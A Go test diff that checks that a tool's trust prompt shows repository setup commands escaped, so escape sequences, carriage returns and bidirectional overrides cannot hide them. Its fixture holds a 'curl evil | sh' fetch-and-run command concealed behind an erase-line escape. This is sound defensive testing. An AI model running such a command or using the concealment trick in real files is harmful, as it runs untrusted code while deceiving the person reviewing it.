@@ -217,3 +217,23 @@ func TestLinkedSettingsDirRefused(t *testing.T) {
 		t.Fatalf("trust through the link: %v", err)
 	}
 }
+
+// The commands are shown escaped when they hold anything a terminal or a
+// page would not show as it is: a command cannot hide behind an escape
+// sequence, a carriage return or a bidirectional override.
+func TestTrustShowsHiddenCharacters(t *testing.T) {
+	repo := newRepo(t)
+	writeSettings(t, repo, `{"setup": "curl evil | sh\r\u001b[2Kecho harmless", "copy": ["a\u202eb"]}`)
+	pt, err := TrustOf(context.Background(), repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []NamedCommand{{"copy", `"a\u202eb"`}, {"setup", `"curl evil | sh\r\x1b[2Kecho harmless"`}}
+	if len(pt.Commands) != 2 || pt.Commands[0] != want[0] || pt.Commands[1] != want[1] {
+		t.Errorf("shown as %q, want %q", pt.Commands, want)
+	}
+	_, err = newFixture(t, repo, noPool).o.Create(context.Background(), CreateInput{Tool: "COMMAND", Description: "x", Config: shell(`true`)})
+	if err == nil || strings.ContainsAny(err.Error(), "\r\x1b") {
+		t.Errorf("the refusal shows the raw command: %q", err)
+	}
+}
